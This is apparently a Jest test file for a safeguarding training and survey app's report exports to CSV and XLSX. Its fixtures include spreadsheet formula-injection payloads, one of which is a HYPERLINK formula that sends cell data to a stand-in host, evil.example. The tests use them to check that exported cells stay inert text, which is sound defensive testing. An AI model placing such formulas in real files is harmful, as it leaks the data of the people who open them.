import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { cellText, type Report } from '../../../services/core/report';
import { centralRecordReport, type EscalationReport } from '../../../services/escalations/report';
import type { Person } from '../../../services/people/model';
import { readTable, writeReport } from '../../../services/core/tabular';
import { reachListReport } from '../../../services/reach/report';
import { AWARENESS_SURVEY } from '../../../services/surveys/builtin';
import { questionnaireSchema, type AnswerEntry, type Campaign, type Questionnaire } from '../../../services/surveys/model';
import { groupResults, highlightResults, questionResults, resultsReport, type CampaignResults } from '../../../services/surveys/results';
import type { Course, Requirement, TrainingRecord } from '../../../services/training/model';
import { completionRates, overdueList } from '../../../services/training/rates';
import { overdueReport, ratesReport } from '../../../services/training/reports';

/** What every renderer relies on: a title, named columns, and every row exactly as wide as the headers. */
function expectReportShape(report: Report): void {
  expect(report.title).toEqual(expect.stringMatching(/\S/));
  expect(report.headers.length).toBeGreaterThan(0);
  for (const h of report.headers) expect(h).toEqual(expect.stringMatching(/\S/));
  expect(new Set(report.headers).size).toBe(report.headers.length);
  for (const row of report.rows) {
    expect(row).toHaveLength(report.headers.length);
    for (const cell of row) expect(cell === null || typeof cell === 'string' || (typeof cell === 'number' && Number.isFinite(cell))).toBe(true);
  }
  for (const note of report.notes ?? []) expect(typeof note).toBe('string');
}

const ORG = 'demo';
const AS_AT = '2026-11-23';
const person = (id: string, name: string, department: string, jobTitle: string): Person => ({
  id,
  orgId: ORG,
  name,
  department,
  jobTitle,
  roles: ['officer'],
  active: true,
});
const PEOPLE = [
  person('p1', 'Ola Adeyemi', 'Housing', 'Housing Officer'),
  person('p2', '=HYPERLINK("x")', 'Children’s Services', 'Social Worker'),
  person('p3', 'Jo Reed', 'Children’s Services', 'Social Worker'),
];
const COURSES: Course[] = [{ id: 'c1', orgId: ORG, kind: 'course', code: 'SG-AWARE', name: 'Safeguarding awareness', validityMonths: 36 }];
const REQUIREMENTS: Requirement[] = [{ id: 'r1', orgId: ORG, kind: 'requirement', courseCode: 'SG-AWARE', jobTitles: ['*'] }];
const RECORDS: TrainingRecord[] = [
  {
    id: 't1',
    orgId: ORG,
    kind: 'record',
    personId: 'p1',
    courseCode: 'SG-AWARE',
    completedOn: '2025-05-12',
    status: 'completed',
    source: 'import',
    createdAt: '2025-05-12T00:00:00Z',
  },
  {
    id: 't2',
    orgId: ORG,
    kind: 'record',
    personId: 'p2',
    courseCode: 'SG-AWARE',
    completedOn: '2022-01-10',
    status: 'completed',
    source: 'import',
    createdAt: '2022-01-10T00:00:00Z',
  },
  {
    id: 't3',
    orgId: ORG,
    kind: 'record',
    personId: 'p3',
    courseCode: 'SG-AWARE',
    completedOn: '2026-12-01',
    status: 'booked',
    source: 'import',
    createdAt: '2026-11-01T00:00:00Z',
  },
];
const TRAINING = { people: PEOPLE, courses: COURSES, requirements: REQUIREMENTS, records: RECORDS };

const AWARENESS: Questionnaire = { ...questionnaireSchema.parse(AWARENESS_SURVEY), id: 'q', orgId: ORG, kind: 'questionnaire', builtIn: true, addedAt: '' };
const ENTRIES: AnswerEntry[] = Array.from({ length: 12 }, (_, i) => ({
  key: `key:${i}`,
  department: i < 8 ? 'Children’s Services' : 'Legal',
  jobTitle: 'Social Worker',
  answers: {
    'know-how-to-report': 'yes',
    'aware-of-procedures': i < 9 ? 'yes' : 'no',
    confidence: 'quite',
    'know-dso-name': 'yes',
    'last-trained': 'within-12-months',
    comments: `Note ${i}`,
  },
}));
const CAMPAIGN: Campaign = {
  id: 'campaign-1',
  orgId: ORG,
  kind: 'campaign',
  title: 'Awareness 2026',
  questionnaire: { key: 'awareness', version: 1 },
  audience: { type: 'everyone' },
  anonymous: false,
  sendAt: '2026-11-02T09:00:00Z',
  closesOn: '2026-11-20',
  maxChasers: 2,
  chaserEveryWorkingDays: 3,
  status: 'closed',
  createdBy: { personId: 'hr', name: 'Simon Howick' },
  createdAt: '2026-11-02T09:00:00Z',
  invited: 15,
};
const RESULTS: CampaignResults = {
  campaign: CAMPAIGN,
  questionnaire: AWARENESS,
  writtenWithheld: false,
  invited: 15,
  responded: 12,
  responseRate: 80,
  questions: questionResults(AWARENESS, ENTRIES),
  highlights: highlightResults(AWARENESS, ENTRIES),
  breakdowns: groupResults(AWARENESS, ENTRIES),
};

const REVIEW: EscalationReport = {
  from: '2026-07-01',
  to: '2026-09-30',
  raised: 3,
  byCause: { 'action-red': 2, 'professional-disagreement': 1 },
  byHighestStage: { '1': 2, '2': 1 },
  acknowledged: 2,
  meanDaysToAcknowledge: 1.5,
  resolved: 1,
  meanDaysToResolve: null,
  feedback: { requested: 1, onTime: 1, late: 0, awaited: 0 },
  escalationNeeded: 1,
  stillOpen: 2,
};

describe('every area’s report is the one shape { title, headers, rows, notes }', () => {
  it('training: completion rates by each breakdown, and the named overdue list', () => {
    for (const by of ['department', 'role', 'course'] as const) {
      const report = ratesReport(completionRates(TRAINING, AS_AT, by), by, AS_AT);
      expectReportShape(report);
      expect(report.title).toBe(`Training completion by ${by}, as at 23 Nov 2026`);
    }
    const byDepartment = ratesReport(completionRates(TRAINING, AS_AT, 'department'), 'department', AS_AT);
    expect(byDepartment.headers).toEqual(['Department', 'Required', 'Within validity', '% within validity', 'Within 12 months', '% within 12 months']);
    // Counts stay numbers (a spreadsheet sums them); shares carry their % sign as the card and the tab show them.
    expect(byDepartment.rows).toEqual([
      ['Children’s Services', 2, 0, '0%', 0, '0%'],
      ['Housing', 1, 1, '100%', 0, '0%'],
      ['All', 3, 1, '33.3%', 0, '0%'],
    ]);
    const overdue = overdueReport(overdueList(TRAINING, AS_AT), AS_AT);
    expectReportShape(overdue);
    expect(overdue.title).toBe('Overdue training (2), as at 23 Nov 2026');
    expect(overdue.rows).toEqual([
      ['=HYPERLINK("x")', 'Children’s Services', 'Social Worker', 'Safeguarding awareness', '2022-01-10', '2025-01-10', null],
      ['Jo Reed', 'Children’s Services', 'Social Worker', 'Safeguarding awareness', null, 'never done', 'yes'],
    ]);
    expect(overdue.notes).toEqual(['Named list: for HR and administrators only; handle it as personal data.']);
    expect(ratesReport([], 'course', AS_AT).notes).toEqual([expect.stringMatching(/No training requirements are set up yet/)]);
  });

  it('escalations: the central record review, its period kept in the rows for a CSV file', () => {
    const report = centralRecordReport(REVIEW);
    expectReportShape(report);
    expect(report.title).toBe('Central record review, 1 Jul 2026 to 30 Sep 2026');
    expect(report.rows.slice(0, 3)).toEqual([
      ['Period', 'From', '2026-07-01'],
      ['Period', 'To', '2026-09-30'],
      ['Raised', 'Total', 3],
    ]);
    expect(report.rows).toContainEqual(['Raised by cause', 'Action turned Red', 2]);
    expect(report.rows).toContainEqual(['Highest stage reached', 'Stage 2', 1]);
    expect(report.rows).toContainEqual(['Resolved', 'Mean days to resolve', '—']);
  });

  it('questionnaires: the full export holds written answers and each group’s questions; the summary for the card and tab does not', () => {
    const full = resultsReport(RESULTS);
    const summary = resultsReport(RESULTS, { detail: 'summary' });
    for (const report of [full, summary]) {
      expectReportShape(report);
      expect(report.title).toBe('Results of "Awareness 2026"');
      expect(report.notes).toEqual(['12 of 15 answered (80%). Closed.']);
      // A group under five stays hidden in both: suppression is the service's, not a renderer's.
      expect(report.rows).toContainEqual(['Breakdown', 'Department: Legal', 'hidden: fewer than 5 responses', '', '']);
    }
    expect(full.rows.filter((r) => r[0] === 'Written answer')).toHaveLength(12);
    expect(summary.rows.filter((r) => r[0] === 'Written answer')).toEqual([]);
    expect(summary.rows).toContainEqual(['Written answers', AWARENESS.questions.find((q) => q.id === 'comments')!.text, 'text in the export', '12', '']);
    expect(full.rows.filter((r) => r[0] === 'Breakdown').length).toBeGreaterThan(summary.rows.filter((r) => r[0] === 'Breakdown').length);
  });

  it('reach: each person, how reminders reach them and why not Teams; the counts and a Graph problem as notes', () => {
    const report = reachListReport({
      rows: [
        { personId: 'p1', name: 'Ola Adeyemi', channel: 'teams', why: '' },
        { personId: 'p2', name: 'Jo Reed', channel: 'unreachable', why: 'not linked to a Microsoft 365 account in this organisation' },
      ],
      counts: { teams: 1, email: 0, unreachable: 1 },
      problem: { since: '2026-11-20T09:00:00Z', detail: 'Graph refused the app (403)' },
    });
    expectReportShape(report);
    expect(report.rows).toEqual([
      ['Ola Adeyemi', 'p1', 'Teams', null],
      ['Jo Reed', 'p2', 'unreachable', 'not linked to a Microsoft 365 account in this organisation'],
    ]);
    expect(report.notes).toEqual(['Teams 1, email 0, unreachable 1', 'Graph problem since 2026-11-20T09:00:00Z: Graph refused the app (403)']);
  });
});

describe('a report written to CSV and XLSX', () => {
  let work: string;
  beforeEach(async () => {
    work = await fs.mkdtemp(path.join(os.tmpdir(), 'report-files-'));
  });
  afterEach(() => fs.rm(work, { recursive: true, force: true }));

  const overdue = () => overdueReport(overdueList(TRAINING, AS_AT), AS_AT);

  it.each(['csv', 'xlsx'])('%s: the headers first, then every row as the report has it', async (ext) => {
    const file = path.join(work, `overdue.${ext}`);
    await writeReport(file, overdue());
    const table = await readTable(file);
    expect(table.headers).toEqual(overdue().headers);
    // Read back (the CSV formula prefix taken off again), every cell is the report's, blanks for nulls.
    expect(table.rows.map((r) => overdue().headers.map((h) => r.cells[h]))).toEqual(overdue().rows.map((r) => r.map(cellText)));
    expect((await fs.stat(file)).mode & 0o777).toBe(0o600);
  });

  it('csv: a cell a spreadsheet would run as a formula is prefixed', async () => {
    const file = path.join(work, 'overdue.csv');
    await writeReport(file, overdue());
    expect(await fs.readFile(file, 'utf8')).toContain(`"'=HYPERLINK(""x"")"`);
  });

  it('xlsx: numbers stay numbers, and a report of several sections has one sheet each, named from its title', async () => {
    const rates = ratesReport(completionRates(TRAINING, AS_AT, 'department'), 'department', AS_AT);
    const file = path.join(work, 'board.xlsx');
    const long = { title: 'Questionnaire results by agency and by stage: a long title', headers: ['Agency'], rows: [['Council']] };
    await writeReport(file, [rates, overdue(), long, { ...long, rows: [['Police']] }]);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);
    const names = workbook.worksheets.map((w) => w.name);
    expect(names).toEqual([
      'Training completion by departme',
      'Overdue training (2), as at 23',
      'Questionnaire results by agency',
      'Questionnaire results by agen 2',
    ]);
    const sheet = workbook.getWorksheet(names[0]!)!;
    expect(sheet.getRow(1).values).toEqual([undefined, ...rates.headers]);
    expect(sheet.getRow(4).values).toEqual([undefined, 'All', 3, 1, '33.3%', 0, '0%']);
    expect(workbook.getWorksheet(names[3]!)!.getRow(2).values).toEqual([undefined, 'Police']);
  });

  it('xlsx: text that looks like a formula stays text, and a title Excel would refuse as a sheet name is made safe', async () => {
    const file = path.join(work, 'results.xlsx');
    await writeReport(file, {
      title: `Results of "A/B: [pilot]?*" from '2026'`,
      headers: ['Answer'],
      rows: [['=HYPERLINK("https://evil.example/?d="&A2,"x")'], ['@SUM(1+1)']],
    });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);
    const [sheet] = workbook.worksheets;
    expect(sheet!.name).toBe('Results of "A B pilot " from \'2');
    for (const row of [2, 3]) {
      const cell = sheet!.getRow(row).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    }
  });

  it('csv: several sections follow one another, each after its title, a blank row between them', async () => {
    const file = path.join(work, 'board.csv');
    const a: Report = { title: 'Plan by agency', headers: ['Agency', 'Red'], rows: [['Council', 1]] };
    const b: Report = { title: 'Training by agency', headers: ['Agency', '% within validity'], rows: [['Police', '80%']] };
    await writeReport(file, [a, b]);
    const records: string[][] = parse(await fs.readFile(file, 'utf8'), { bom: true, relax_column_count: true, skip_empty_lines: false });
    expect(records).toEqual([
      ['Plan by agency'],
      ['Agency', 'Red'],
      ['Council', '1'],
      [''],
      ['Training by agency'],
      ['Agency', '% within validity'],
      ['Police', '80%'],
    ]);
  });
});
